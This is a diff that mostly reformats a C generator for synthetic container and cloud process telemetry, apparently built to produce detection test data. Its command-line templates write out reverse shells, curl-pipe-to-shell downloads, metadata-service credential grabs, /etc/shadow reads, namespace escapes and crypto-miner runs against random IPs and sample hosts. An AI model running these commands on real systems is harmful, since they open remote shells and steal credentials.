@@ -48,11 +48,26 @@ static uint64_t mix64(uint64_t z)
     z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
     return z ^ (z >> 31);
 }
-static uint64_t rnd(void) { return mix64(rng += 0x9e3779b97f4a7c15ULL); }
-static double unif(void) { return (double)(rnd() >> 11) * 0x1.0p-53; }
-static uint32_t below(uint32_t n) { return (uint32_t)(((rnd() >> 32) * n) >> 32); }
-static int chance(double p) { return unif() < p; }
-static uint64_t hash2(uint64_t a, uint64_t b) { return mix64(a * 0x9e3779b97f4a7c15ULL ^ mix64(b + 1)); }
+static uint64_t rnd(void)
+{
+    return mix64(rng += 0x9e3779b97f4a7c15ULL);
+}
+static double unif(void)
+{
+    return (double)(rnd() >> 11) * 0x1.0p-53;
+}
+static uint32_t below(uint32_t n)
+{
+    return (uint32_t)(((rnd() >> 32) * n) >> 32);
+}
+static int chance(double p)
+{
+    return unif() < p;
+}
+static uint64_t hash2(uint64_t a, uint64_t b)
+{
+    return mix64(a * 0x9e3779b97f4a7c15ULL ^ mix64(b + 1));
+}
 
 /* Zipf(s) over ranks 0..n-1 by a cumulative table and binary search. */
 typedef struct {
@@ -111,13 +126,19 @@ static void row_begin(void)
     if (pos > OUT_CAP - 65536)
         flush_out();
 }
-static void put_c(char c) { out[pos++] = c; }
+static void put_c(char c)
+{
+    out[pos++] = c;
+}
 static void put_n(const char *s, size_t n)
 {
     memcpy(out + pos, s, n);
     pos += n;
 }
-static void put_s(const char *s) { put_n(s, strlen(s)); }
+static void put_s(const char *s)
+{
+    put_n(s, strlen(s));
+}
 static void put_u(uint64_t v)
 {
     char t[24];
@@ -238,66 +259,148 @@ static int64_t row_time(uint64_t i, uint64_t n)
 /* ---- vocabularies -------------------------------------------------------- */
 
 static const char *words[] = {
-    "api", "web", "worker", "payments", "billing", "auth", "orders", "cart", "search", "inventory",
-    "report", "export", "backup", "sync", "metrics", "config", "deploy", "update", "install", "setup",
-    "health", "status", "cache", "queue", "ingest", "index", "session", "token", "upload", "download",
-    "notify", "mailer", "scheduler", "cron", "loader", "agent", "collector", "exporter", "gateway", "proxy",
-    "ledger", "catalog", "profile", "users", "accounts", "invoices", "shipping", "pricing", "audit", "events",
-    "data", "model", "train", "predict", "etl", "stream", "batch", "archive", "logs", "trace",
+    "api",       "web",       "worker",  "payments", "billing",   "auth",     "orders",   "cart",
+    "search",    "inventory", "report",  "export",   "backup",    "sync",     "metrics",  "config",
+    "deploy",    "update",    "install", "setup",    "health",    "status",   "cache",    "queue",
+    "ingest",    "index",     "session", "token",    "upload",    "download", "notify",   "mailer",
+    "scheduler", "cron",      "loader",  "agent",    "collector", "exporter", "gateway",  "proxy",
+    "ledger",    "catalog",   "profile", "users",    "accounts",  "invoices", "shipping", "pricing",
+    "audit",     "events",    "data",    "model",    "train",     "predict",  "etl",      "stream",
+    "batch",     "archive",   "logs",    "trace",
 };
 static const char *envs[] = {"prod", "staging", "dev", "qa", "test"};
 static const char *namespaces[] = {
-    "default", "payments", "web", "kube-system", "monitoring", "data", "auth", "orders", "ingress-nginx",
-    "logging", "ml", "ci", "billing", "search", "cert-manager", "istio-system", "batch", "analytics",
-    "gatekeeper-system", "argocd", "shop", "inventory", "backend", "frontend", "jobs",
+    "default",
+    "payments",
+    "web",
+    "kube-system",
+    "monitoring",
+    "data",
+    "auth",
+    "orders",
+    "ingress-nginx",
+    "logging",
+    "ml",
+    "ci",
+    "billing",
+    "search",
+    "cert-manager",
+    "istio-system",
+    "batch",
+    "analytics",
+    "gatekeeper-system",
+    "argocd",
+    "shop",
+    "inventory",
+    "backend",
+    "frontend",
+    "jobs",
 };
 static const char *registries[] = {
-    "contoso.azurecr.io", "111122223333.dkr.ecr.eu-west-1.amazonaws.com", "gcr.io/example-prod-123",
-    "docker.io/library", "ghcr.io/contoso", "public.ecr.aws/docker/library", "quay.io/prometheus",
-    "registry.k8s.io", "mcr.microsoft.com/oss",
+    "contoso.azurecr.io",      "111122223333.dkr.ecr.eu-west-1.amazonaws.com",
+    "gcr.io/example-prod-123", "docker.io/library",
+    "ghcr.io/contoso",         "public.ecr.aws/docker/library",
+    "quay.io/prometheus",      "registry.k8s.io",
+    "mcr.microsoft.com/oss",
 };
 static const char *hosts[] = {
-    "api.github.com", "registry.npmjs.org", "pypi.org", "files.pythonhosted.org", "objects.githubusercontent.com",
-    "login.microsoftonline.com", "management.azure.com", "s3.amazonaws.com", "storage.googleapis.com",
-    "pastebin.com", "raw.githubusercontent.com", "transfer.sh", "pool.minexmr.com", "xmr.pool.example.net",
-    "update.example-cdn.net", "c2.badhost.example", "ngrok.io", "dl-cdn.alpinelinux.org", "deb.debian.org",
-    "api.contoso.com", "internal.contoso.local", "vault.contoso.local",
+    "api.github.com",
+    "registry.npmjs.org",
+    "pypi.org",
+    "files.pythonhosted.org",
+    "objects.githubusercontent.com",
+    "login.microsoftonline.com",
+    "management.azure.com",
+    "s3.amazonaws.com",
+    "storage.googleapis.com",
+    "pastebin.com",
+    "raw.githubusercontent.com",
+    "transfer.sh",
+    "pool.minexmr.com",
+    "xmr.pool.example.net",
+    "update.example-cdn.net",
+    "c2.badhost.example",
+    "ngrok.io",
+    "dl-cdn.alpinelinux.org",
+    "deb.debian.org",
+    "api.contoso.com",
+    "internal.contoso.local",
+    "vault.contoso.local",
 };
-static const int ports[] = {443, 80, 8080, 8443, 3000, 5000, 6379, 5432, 3306, 9090, 4444, 1337, 3333, 53, 22, 9200};
+static const int ports[] = {443,  80,   8080, 8443, 3000, 5000, 6379, 5432,
+                            3306, 9090, 4444, 1337, 3333, 53,   22,   9200};
 static const char *accounts[] = {
-    "root", "www-data", "node", "app", "nobody", "postgres", "redis", "nginx", "daemon", "jenkins",
-    "appuser", "python", "java", "elasticsearch", "grafana", "prometheus", "mysql", "ubuntu", "ec2-user", "azureuser",
+    "root",    "www-data",   "node",    "app",     "nobody",   "postgres",  "redis",
+    "nginx",   "daemon",     "jenkins", "appuser", "python",   "java",      "elasticsearch",
+    "grafana", "prometheus", "mysql",   "ubuntu",  "ec2-user", "azureuser",
 };
 static const char *first_names[] = {
-    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "nina",
-    "oscar", "peggy", "rupert", "sybil", "trent", "victor", "walter", "yusuf", "zoe", "mei", "raj", "sven",
+    "alice", "bob",    "carol",   "dave",  "erin",  "frank", "grace",  "heidi",
+    "ivan",  "judy",   "mallory", "nina",  "oscar", "peggy", "rupert", "sybil",
+    "trent", "victor", "walter",  "yusuf", "zoe",   "mei",   "raj",    "sven",
 };
 static const char *last_names[] = {
-    "smith", "jones", "garcia", "miller", "davis", "lopez", "wilson", "anderson", "thomas", "moore",
-    "martin", "lee", "walker", "hall", "young", "king", "wright", "scott", "green", "baker",
+    "smith",    "jones",  "garcia", "miller", "davis", "lopez",  "wilson",
+    "anderson", "thomas", "moore",  "martin", "lee",   "walker", "hall",
+    "young",    "king",   "wright", "scott",  "green", "baker",
 };
-static const char *regions[] = {"eu-west-1", "us-east-1", "us-west-2", "ap-southeast-1", "eu-central-1"};
-static const char *zones[] = {"europe-west1-b", "us-central1-a", "us-east1-c", "asia-east1-a", "europe-west4-a"};
+static const char *regions[] = {"eu-west-1", "us-east-1", "us-west-2", "ap-southeast-1",
+                                "eu-central-1"};
+static const char *zones[] = {"europe-west1-b", "us-central1-a", "us-east1-c", "asia-east1-a",
+                              "europe-west4-a"};
 
 /* Processes, most common first; cmd selects the command-line template. */
 typedef struct {
     const char *name, *path;
 } proc_t;
 static const proc_t procs[] = {
-    {"sh", "/bin/sh"}, {"bash", "/bin/bash"}, {"python3", "/usr/bin/python3"}, {"node", "/usr/local/bin/node"},
-    {"java", "/usr/bin/java"}, {"cat", "/bin/cat"}, {"ls", "/bin/ls"}, {"grep", "/bin/grep"},
-    {"ps", "/bin/ps"}, {"curl", "/usr/bin/curl"}, {"nginx", "/usr/sbin/nginx"}, {"sleep", "/bin/sleep"},
-    {"awk", "/usr/bin/awk"}, {"sed", "/bin/sed"}, {"find", "/usr/bin/find"}, {"kubectl", "/usr/local/bin/kubectl"},
-    {"wget", "/usr/bin/wget"}, {"apt-get", "/usr/bin/apt-get"}, {"pip", "/usr/local/bin/pip"},
-    {"npm", "/usr/local/bin/npm"}, {"git", "/usr/bin/git"}, {"tar", "/bin/tar"}, {"chmod", "/bin/chmod"},
-    {"base64", "/usr/bin/base64"}, {"openssl", "/usr/bin/openssl"}, {"aws", "/usr/local/bin/aws"},
-    {"az", "/usr/bin/az"}, {"gcloud", "/usr/bin/gcloud"}, {"ssh", "/usr/bin/ssh"}, {"id", "/usr/bin/id"},
-    {"whoami", "/usr/bin/whoami"}, {"env", "/usr/bin/env"}, {"perl", "/usr/bin/perl"}, {"crontab", "/usr/bin/crontab"},
-    {"mount", "/bin/mount"}, {"nc", "/bin/nc"}, {"socat", "/usr/bin/socat"}, {"nsenter", "/usr/bin/nsenter"},
-    {"ncat", "/usr/bin/ncat"}, {"xmrig", "/tmp/.x/xmrig"}, {"kworkerds", "/var/tmp/.cache/kworkerds"},
+    {"sh", "/bin/sh"},
+    {"bash", "/bin/bash"},
+    {"python3", "/usr/bin/python3"},
+    {"node", "/usr/local/bin/node"},
+    {"java", "/usr/bin/java"},
+    {"cat", "/bin/cat"},
+    {"ls", "/bin/ls"},
+    {"grep", "/bin/grep"},
+    {"ps", "/bin/ps"},
+    {"curl", "/usr/bin/curl"},
+    {"nginx", "/usr/sbin/nginx"},
+    {"sleep", "/bin/sleep"},
+    {"awk", "/usr/bin/awk"},
+    {"sed", "/bin/sed"},
+    {"find", "/usr/bin/find"},
+    {"kubectl", "/usr/local/bin/kubectl"},
+    {"wget", "/usr/bin/wget"},
+    {"apt-get", "/usr/bin/apt-get"},
+    {"pip", "/usr/local/bin/pip"},
+    {"npm", "/usr/local/bin/npm"},
+    {"git", "/usr/bin/git"},
+    {"tar", "/bin/tar"},
+    {"chmod", "/bin/chmod"},
+    {"base64", "/usr/bin/base64"},
+    {"openssl", "/usr/bin/openssl"},
+    {"aws", "/usr/local/bin/aws"},
+    {"az", "/usr/bin/az"},
+    {"gcloud", "/usr/bin/gcloud"},
+    {"ssh", "/usr/bin/ssh"},
+    {"id", "/usr/bin/id"},
+    {"whoami", "/usr/bin/whoami"},
+    {"env", "/usr/bin/env"},
+    {"perl", "/usr/bin/perl"},
+    {"crontab", "/usr/bin/crontab"},
+    {"mount", "/bin/mount"},
+    {"nc", "/bin/nc"},
+    {"socat", "/usr/bin/socat"},
+    {"nsenter", "/usr/bin/nsenter"},
+    {"ncat", "/usr/bin/ncat"},
+    {"xmrig", "/tmp/.x/xmrig"},
+    {"kworkerds", "/var/tmp/.cache/kworkerds"},
 };
-static const char *parents[] = {"sh", "bash", "containerd-shim", "runc", "python3", "node", "java", "tini", "dumb-init", "sshd", "kubelet"};
-static const char *cwds[] = {"/app", "/", "/srv", "/tmp", "/root", "/usr/src/app", "/opt/app", "/var/www/html", "/home/app", "/workspace"};
+static const char *parents[] = {"sh",   "bash", "containerd-shim", "runc", "python3", "node",
+                                "java", "tini", "dumb-init",       "sshd", "kubelet"};
+static const char *cwds[] = {
+    "/app",         "/",        "/srv",          "/tmp",      "/root",
+    "/usr/src/app", "/opt/app", "/var/www/html", "/home/app", "/workspace"};
 
 /* ---- shared pools: resources, IPs, identities ---------------------------- */
 
@@ -322,7 +425,8 @@ static zipf z_res, z_comp, z_ip, z_proc, z_acct, z_words, z_ns, z_host, z_b64;
 
 static void put_ip(uint32_t ip)
 {
-    put_u(ip >> 24), put_c('.'), put_u(ip >> 16 & 255), put_c('.'), put_u(ip >> 8 & 255), put_c('.'), put_u(ip & 255);
+    put_u(ip >> 24), put_c('.'), put_u(ip >> 16 & 255), put_c('.'), put_u(ip >> 8 & 255),
+        put_c('.'), put_u(ip & 255);
 }
 /* Render into a small string through the output buffer (used at setup). */
 static void take_str(size_t from, char *dst, size_t cap)
@@ -350,7 +454,8 @@ static void make_pools(uint64_t seed)
     }
     for (int i = 0; i < 8; i++) {
         size_t f = pos;
-        put_s(words[below(N_ELEMS(words))]), put_c('-'), put_s(envs[i % 3]), put_c('-'), put_u(100 + below(900));
+        put_s(words[below(N_ELEMS(words))]), put_c('-'), put_s(envs[i % 3]), put_c('-'),
+            put_u(100 + below(900));
         take_str(f, gcp_projects[i], sizeof gcp_projects[i]);
     }
     {
@@ -366,47 +471,56 @@ static void make_pools(uint64_t seed)
         r->compute = kind < 2 ? 1 : kind < 4 ? 2 : 0;
         r->region = (int)below(5);
         size_t f = pos;
-        put_s(words[below(N_ELEMS(words))]), put_c('-'), put_s(envs[below(N_ELEMS(envs))]), put_c('-'), put_u(i);
+        put_s(words[below(N_ELEMS(words))]), put_c('-'), put_s(envs[below(N_ELEMS(envs))]),
+            put_c('-'), put_u(i);
         take_str(f, r->name, sizeof r->name);
         f = pos;
         if (r->plat == 0) {
             r->acct = (int)below(12);
-            static const char *prov[] = {
-                "Microsoft.ContainerService/managedClusters", "Microsoft.Compute/virtualMachines",
-                "Microsoft.Storage/storageAccounts", "Microsoft.KeyVault/vaults", "Microsoft.Sql/servers",
-                "Microsoft.Web/sites", "Microsoft.Network/networkSecurityGroups"};
+            static const char *prov[] = {"Microsoft.ContainerService/managedClusters",
+                                         "Microsoft.Compute/virtualMachines",
+                                         "Microsoft.Storage/storageAccounts",
+                                         "Microsoft.KeyVault/vaults",
+                                         "Microsoft.Sql/servers",
+                                         "Microsoft.Web/sites",
+                                         "Microsoft.Network/networkSecurityGroups"};
             int p = kind < 2 ? 0 : kind < 4 ? 1 : 2 + (kind - 4) % 5;
             put_s("/subscriptions/"), put_s(subs[r->acct]), put_s("/resourceGroups/");
-            put_s(words[hash2(i, 1) % N_ELEMS(words)]), put_s("-rg/providers/"), put_s(prov[p]), put_c('/'), put_s(r->name);
+            put_s(words[hash2(i, 1) % N_ELEMS(words)]), put_s("-rg/providers/"), put_s(prov[p]),
+                put_c('/'), put_s(r->name);
         } else if (r->plat == 1) {
             r->acct = (int)below(10);
             const char *a = aws_accts[r->acct], *rg = regions[r->region];
             if (kind < 2)
-                put_s("arn:aws:eks:"), put_s(rg), put_c(':'), put_s(a), put_s(":cluster/"), put_s(r->name);
+                put_s("arn:aws:eks:"), put_s(rg), put_c(':'), put_s(a), put_s(":cluster/"),
+                    put_s(r->name);
             else if (kind < 4)
-                put_s("arn:aws:ec2:"), put_s(rg), put_c(':'), put_s(a), put_s(":instance/i-0"), put_hex(rnd(), 16);
+                put_s("arn:aws:ec2:"), put_s(rg), put_c(':'), put_s(a), put_s(":instance/i-0"),
+                    put_hex(rnd(), 16);
             else if (kind < 6)
                 put_s("arn:aws:s3:::"), put_s(r->name);
             else if (kind < 8)
                 put_s("arn:aws:iam::"), put_s(a), put_s(":role/"), put_s(r->name);
             else if (kind < 9)
-                put_s("arn:aws:lambda:"), put_s(rg), put_c(':'), put_s(a), put_s(":function:"), put_s(r->name);
+                put_s("arn:aws:lambda:"), put_s(rg), put_c(':'), put_s(a), put_s(":function:"),
+                    put_s(r->name);
             else
-                put_s("arn:aws:cloudtrail:"), put_s(rg), put_c(':'), put_s(a), put_s(":trail/"), put_s(r->name);
+                put_s("arn:aws:cloudtrail:"), put_s(rg), put_c(':'), put_s(a), put_s(":trail/"),
+                    put_s(r->name);
         } else {
             r->acct = (int)below(8);
             const char *p = gcp_projects[r->acct];
             if (kind < 2)
-                put_s("//container.googleapis.com/projects/"), put_s(p), put_s("/locations/"), put_s(zones[r->region]),
-                    put_s("/clusters/"), put_s(r->name);
+                put_s("//container.googleapis.com/projects/"), put_s(p), put_s("/locations/"),
+                    put_s(zones[r->region]), put_s("/clusters/"), put_s(r->name);
             else if (kind < 4)
-                put_s("//compute.googleapis.com/projects/"), put_s(p), put_s("/zones/"), put_s(zones[r->region]),
-                    put_s("/instances/"), put_s(r->name);
+                put_s("//compute.googleapis.com/projects/"), put_s(p), put_s("/zones/"),
+                    put_s(zones[r->region]), put_s("/instances/"), put_s(r->name);
             else if (kind < 7)
                 put_s("//storage.googleapis.com/projects/_/buckets/"), put_s(r->name);
             else if (kind < 9)
-                put_s("//iam.googleapis.com/projects/"), put_s(p), put_s("/serviceAccounts/"), put_s(r->name), put_c('@'),
-                    put_s(p), put_s(".iam.gserviceaccount.com");
+                put_s("//iam.googleapis.com/projects/"), put_s(p), put_s("/serviceAccounts/"),
+                    put_s(r->name), put_c('@'), put_s(p), put_s(".iam.gserviceaccount.com");
             else
                 put_s("//cloudresourcemanager.googleapis.com/projects/"), put_s(p);
         }
@@ -436,9 +550,18 @@ static void make_pools(uint64_t seed)
     zipf_init(&z_b64, 8, 1.0);
 }
 
-static const char *word(void) { return words[zdraw(&z_words)]; }
-static uint32_t pick_ip(void) { return ips[zdraw(&z_ip)]; }
-static int pick_port(void) { return ports[below(N_ELEMS(ports))]; }
+static const char *word(void)
+{
+    return words[zdraw(&z_words)];
+}
+static uint32_t pick_ip(void)
+{
+    return ips[zdraw(&z_ip)];
+}
+static int pick_port(void)
+{
+    return ports[below(N_ELEMS(ports))];
+}
 /* Account names: 20 service users, then svc-<word> and first.last. */
 static void put_account(int k)
 {
@@ -447,11 +570,13 @@ static void put_account(int k)
     else if (k < N_ELEMS(accounts) + N_ELEMS(words))
         put_s("svc-"), put_s(words[k - N_ELEMS(accounts)]);
     else
-        put_s(first_names[k % N_ELEMS(first_names)]), put_c('.'), put_s(last_names[k / 7 % N_ELEMS(last_names)]);
+        put_s(first_names[k % N_ELEMS(first_names)]), put_c('.'),
+            put_s(last_names[k / 7 % N_ELEMS(last_names)]);
 }
 static void put_upn(int k)
 {
-    put_s(first_names[k % N_ELEMS(first_names)]), put_c('.'), put_s(last_names[k / 3 % N_ELEMS(last_names)]);
+    put_s(first_names[k % N_ELEMS(first_names)]), put_c('.'),
+        put_s(last_names[k / 3 % N_ELEMS(last_names)]);
     put_s("@contoso.com");
 }
 
@@ -466,43 +591,50 @@ static void put_cmdline(int p)
     case 1: /* bash */
         put_s(procs[p].name);
         if (r < 40)
-            put_s(" -c \"cd /app && exec ./"), put_s(w), put_s(".sh --env "), put_s(envs[below(5)]), put_c('"');
+            put_s(" -c \"cd /app && exec ./"), put_s(w), put_s(".sh --env "), put_s(envs[below(5)]),
+                put_c('"');
         else if (r < 60)
             put_s(" /docker-entrypoint.sh "), put_s(w);
         else if (r < 75)
-            put_s(" -c \"sleep "), put_u(1 + below(600)), put_s("; /usr/local/bin/"), put_s(w), put_s(" --once\"");
+            put_s(" -c \"sleep "), put_u(1 + below(600)), put_s("; /usr/local/bin/"), put_s(w),
+                put_s(" --once\"");
         else if (r < 85)
             put_s(" /opt/scripts/"), put_s(w), put_s(".sh "), put_s(word());
         else if (r < 92)
             put_s(" -c \"test -f /var/run/secrets/kubernetes.io/serviceaccount/token && echo ok\"");
         else if (r < 96)
-            put_s(" -c \"curl -s http://"), put_ip(pick_ip()), put_c('/'), put_s(w), put_s(".sh | sh\"");
+            put_s(" -c \"curl -s http://"), put_ip(pick_ip()), put_c('/'), put_s(w),
+                put_s(".sh | sh\"");
         else if (r < 98)
             put_s(" -c \"echo "), put_b64(24 + 8 * zdraw(&z_b64)), put_s(" | base64 -d | sh\"");
         else
-            put_s(" -i >& /dev/tcp/"), put_ip(pick_ip()), put_c('/'), put_u((uint64_t)pick_port()), put_s(" 0>&1");
+            put_s(" -i >& /dev/tcp/"), put_ip(pick_ip()), put_c('/'), put_u((uint64_t)pick_port()),
+                put_s(" 0>&1");
         break;
     case 2: /* python3 */
         if (r < 50)
             put_s("python3 /app/"), put_s(w), put_s(".py --port "), put_u((uint64_t)pick_port());
         else if (r < 85)
-            put_s("python3 -m gunicorn "), put_s(w), put_s(".wsgi:app -b 0.0.0.0:"), put_u((uint64_t)pick_port()),
-                put_s(" -w "), put_u(1 + below(8));
+            put_s("python3 -m gunicorn "), put_s(w), put_s(".wsgi:app -b 0.0.0.0:"),
+                put_u((uint64_t)pick_port()), put_s(" -w "), put_u(1 + below(8));
         else if (r < 98)
             put_s("python3 manage.py "), put_s(w), put_s(" --settings="), put_s(envs[below(5)]);
         else
-            put_s("python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('"), put_ip(pick_ip()),
-                put_s("',"), put_u((uint64_t)pick_port()), put_s("));os.dup2(s.fileno(),0)\"");
+            put_s("python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('"),
+                put_ip(pick_ip()), put_s("',"), put_u((uint64_t)pick_port()),
+                put_s("));os.dup2(s.fileno(),0)\"");
         break;
     case 3: /* node */
         if (r < 70)
             put_s("node /app/dist/"), put_s(w), put_s("/server.js");
         else
-            put_s("node --max-old-space-size="), put_u(256u << below(5)), put_s(" /srv/"), put_s(w), put_s("/index.js");
+            put_s("node --max-old-space-size="), put_u(256u << below(5)), put_s(" /srv/"), put_s(w),
+                put_s("/index.js");
         break;
     case 4: /* java */
-        put_s("java -Xmx"), put_u(256u << below(5)), put_s("m -jar /opt/"), put_s(w), put_c('/'), put_s(w), put_c('-'),
-            put_u(1 + below(4)), put_c('.'), put_u(below(20)), put_s(".jar --spring.profiles.active="), put_s(envs[below(5)]);
+        put_s("java -Xmx"), put_u(256u << below(5)), put_s("m -jar /opt/"), put_s(w), put_c('/'),
+            put_s(w), put_c('-'), put_u(1 + below(4)), put_c('.'), put_u(below(20)),
+            put_s(".jar --spring.profiles.active="), put_s(envs[below(5)]);
         break;
     case 5: /* cat */
         if (r < 50)
@@ -527,16 +659,19 @@ static void put_cmdline(int p)
         if (r < 45)
             put_s("curl -sSf https://"), put_s(hosts[zdraw(&z_host)]), put_s("/healthz");
         else if (r < 70)
-            put_s("curl -s -X POST -H Authorization:Bearer_"), put_b64(32 + 8 * zdraw(&z_b64)), put_s(" https://"),
-                put_s(hosts[zdraw(&z_host)]), put_s("/api/v1/"), put_s(w);
+            put_s("curl -s -X POST -H Authorization:Bearer_"), put_b64(32 + 8 * zdraw(&z_b64)),
+                put_s(" https://"), put_s(hosts[zdraw(&z_host)]), put_s("/api/v1/"), put_s(w);
         else if (r < 85)
-            put_s("curl -s http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://"
+            put_s("curl -s "
+                  "http://169.254.169.254/metadata/identity/oauth2/"
+                  "token?api-version=2018-02-01&resource=https://"
                   "management.azure.com/ -H Metadata:true");
         else if (r < 92)
-            put_s("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"), put_s(w);
+            put_s("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+                put_s(w);
         else
-            put_s("curl -s http://"), put_ip(pick_ip()), put_c(':'), put_u((uint64_t)pick_port()), put_c('/'), put_s(w),
-                put_s(".sh -o /tmp/"), put_s(w);
+            put_s("curl -s http://"), put_ip(pick_ip()), put_c(':'), put_u((uint64_t)pick_port()),
+                put_c('/'), put_s(w), put_s(".sh -o /tmp/"), put_s(w);
         break;
     case 10:
         put_s("nginx -g daemon off;");
@@ -550,47 +685,55 @@ static void put_cmdline(int p)
         else if (r < 80)
             put_s("kubectl get secrets -A -o json");
         else
-            put_s("kubectl exec -it "), put_s(w), put_s("-0 -n "), put_s(namespaces[zdraw(&z_ns)]), put_s(" -- /bin/sh");
+            put_s("kubectl exec -it "), put_s(w), put_s("-0 -n "), put_s(namespaces[zdraw(&z_ns)]),
+                put_s(" -- /bin/sh");
         break;
     case 16: /* wget */
         if (r < 70)
-            put_s("wget -q https://"), put_s(hosts[zdraw(&z_host)]), put_s("/releases/"), put_s(w), put_c('-'),
-                put_u(below(10)), put_c('.'), put_u(below(30)), put_s(".tar.gz");
+            put_s("wget -q https://"), put_s(hosts[zdraw(&z_host)]), put_s("/releases/"), put_s(w),
+                put_c('-'), put_u(below(10)), put_c('.'), put_u(below(30)), put_s(".tar.gz");
         else
-            put_s("wget -q http://"), put_ip(pick_ip()), put_c('/'), put_s(w), put_s(" -O /tmp/."), put_s(w);
+            put_s("wget -q http://"), put_ip(pick_ip()), put_c('/'), put_s(w), put_s(" -O /tmp/."),
+                put_s(w);
         break;
     case 23: /* base64 */
-        put_s(r < 60 ? "base64 -d /tmp/" : "base64 -w0 /etc/"), put_s(r < 60 ? w : "shadow"), put_s(r < 60 ? ".b64" : "");
+        put_s(r < 60 ? "base64 -d /tmp/" : "base64 -w0 /etc/"), put_s(r < 60 ? w : "shadow"),
+            put_s(r < 60 ? ".b64" : "");
         break;
     case 24: /* openssl */
         if (r < 70)
-            put_s("openssl s_client -connect "), put_s(hosts[zdraw(&z_host)]), put_s(":443 -servername "), put_s(w);
+            put_s("openssl s_client -connect "), put_s(hosts[zdraw(&z_host)]),
+                put_s(":443 -servername "), put_s(w);
         else
-            put_s("openssl enc -aes-256-cbc -d -in /tmp/"), put_s(w), put_s(".enc -k "), put_b64(16);
+            put_s("openssl enc -aes-256-cbc -d -in /tmp/"), put_s(w), put_s(".enc -k "),
+                put_b64(16);
         break;
     case 25: /* aws */
         if (r < 40)
-            put_s("aws s3 cp s3://"), put_s(w), put_c('-'), put_s(envs[below(5)]), put_c('/'), put_s(word()), put_s(".tar.gz /tmp/");
+            put_s("aws s3 cp s3://"), put_s(w), put_c('-'), put_s(envs[below(5)]), put_c('/'),
+                put_s(word()), put_s(".tar.gz /tmp/");
         else if (r < 75)
             put_s("aws sts get-caller-identity");
         else
-            put_s("aws secretsmanager get-secret-value --secret-id "), put_s(w), put_c('/'), put_s(envs[below(5)]);
+            put_s("aws secretsmanager get-secret-value --secret-id "), put_s(w), put_c('/'),
+                put_s(envs[below(5)]);
         break;
     case 35:
     case 38: /* nc, ncat */
-        put_s(procs[p].name), put_s(r < 50 ? " -e /bin/sh " : " -zv "), put_ip(pick_ip()), put_c(' '),
-            put_u((uint64_t)pick_port());
+        put_s(procs[p].name), put_s(r < 50 ? " -e /bin/sh " : " -zv "), put_ip(pick_ip()),
+            put_c(' '), put_u((uint64_t)pick_port());
         break;
     case 36:
-        put_s("socat TCP:"), put_ip(pick_ip()), put_c(':'), put_u((uint64_t)pick_port()), put_s(" EXEC:/bin/bash");
+        put_s("socat TCP:"), put_ip(pick_ip()), put_c(':'), put_u((uint64_t)pick_port()),
+            put_s(" EXEC:/bin/bash");
         break;
     case 37:
         put_s("nsenter -t 1 -m -u -i -n sh");
         break;
     case 39:
     case 40: /* miners */
-        put_s(procs[p].path), put_s(" -o stratum+tcp://"), put_s(hosts[12 + below(2)]), put_s(":3333 -u "), put_b64(64),
-            put_s(" --donate-level 0");
+        put_s(procs[p].path), put_s(" -o stratum+tcp://"), put_s(hosts[12 + below(2)]),
+            put_s(":3333 -u "), put_b64(64), put_s(" --donate-level 0");
         break;
     default:
         put_s(procs[p].path), put_c(' ');
@@ -605,14 +748,16 @@ static void put_cmdline(int p)
 
 static void gen_process(uint64_t n)
 {
-    static const char *acts[] = {"ProcessCreated", "ProcessTerminated", "ProcessCreatedFromMemfd", "ProcessInjected"};
+    static const char *acts[] = {"ProcessCreated", "ProcessTerminated", "ProcessCreatedFromMemfd",
+                                 "ProcessInjected"};
     zipf z_act;
     zipf_init(&z_act, 4, 4.0);
     for (uint64_t i = 0; i < n; i++) {
         row_begin();
         int64_t ts = row_time(i, n);
         const resource *r = &res[compute_idx[zdraw(&z_comp)]];
-        int wl = (int)(hash2((uint64_t)(r - res), (uint64_t)zdraw(&z_words)) % 400); /* workload on this resource */
+        int wl = (int)(hash2((uint64_t)(r - res), (uint64_t)zdraw(&z_words)) %
+                       400); /* workload on this resource */
         const char *app = words[wl % N_ELEMS(words)];
         const char *ns = namespaces[(wl / 7) % N_ELEMS(namespaces)];
         int pod = (int)below(6);
@@ -625,20 +770,22 @@ static void gen_process(uint64_t n)
         kv_s("AzureResourceId", r->plat == 0 ? r->id : "");
         kv_s("AwsResourceName", r->plat == 1 ? r->id : "");
         kv_s("GcpFullResourceName", r->plat == 2 ? r->id : "");
-        key("ContainerImageName"), put_c('"'), put_s(registries[wl % N_ELEMS(registries)]), put_c('/'), put_s(app),
-            put_c(':'), put_u(1 + wl % 3), put_c('.'), put_u(wl % 11), put_c('.'), put_u(wl % 5), put_c('"');
+        key("ContainerImageName"), put_c('"'), put_s(registries[wl % N_ELEMS(registries)]),
+            put_c('/'), put_s(app), put_c(':'), put_u(1 + wl % 3), put_c('.'), put_u(wl % 11),
+            put_c('.'), put_u(wl % 5), put_c('"');
         kv_s("KubernetesNamespace", k8s ? ns : "");
         key("KubernetesPodName"), put_c('"');
         if (k8s)
-            put_s(app), put_c('-'), put_hex(hash2(podh, 7) & 0xfffffffff, 9), put_c('-'), put_hex(podh, 5);
+            put_s(app), put_c('-'), put_hex(hash2(podh, 7) & 0xfffffffff, 9), put_c('-'),
+                put_hex(podh, 5);
         put_c('"');
         key("KubernetesResource"), put_c('"');
         if (k8s)
             put_s(ns), put_s("/deployment/"), put_s(app);
         put_c('"');
         kv_s("ContainerName", app);
-        key("ContainerId"), put_c('"'), put_hex(podh, 16), put_hex(hash2(podh, 1), 16), put_hex(hash2(podh, 2), 16),
-            put_hex(hash2(podh, 3), 16), put_c('"');
+        key("ContainerId"), put_c('"'), put_hex(podh, 16), put_hex(hash2(podh, 1), 16),
+            put_hex(hash2(podh, 2), 16), put_hex(hash2(podh, 3), 16), put_c('"');
         kv_s("ActionType", acts[zdraw(&z_act)]);
         kv_s("FileName", procs[p].name);
         kv_s("FolderPath", procs[p].path);
@@ -657,10 +804,12 @@ static void gen_process(uint64_t n)
         key("AccountName"), put_c('"'), put_account(zdraw(&z_acct)), put_c('"');
         kv_u("LogonId", chance(0.7) ? 0 : rnd() % 4000000000ULL);
         key("InitiatingProcessId"), put_c('"'), put_u(ppid), put_c('"');
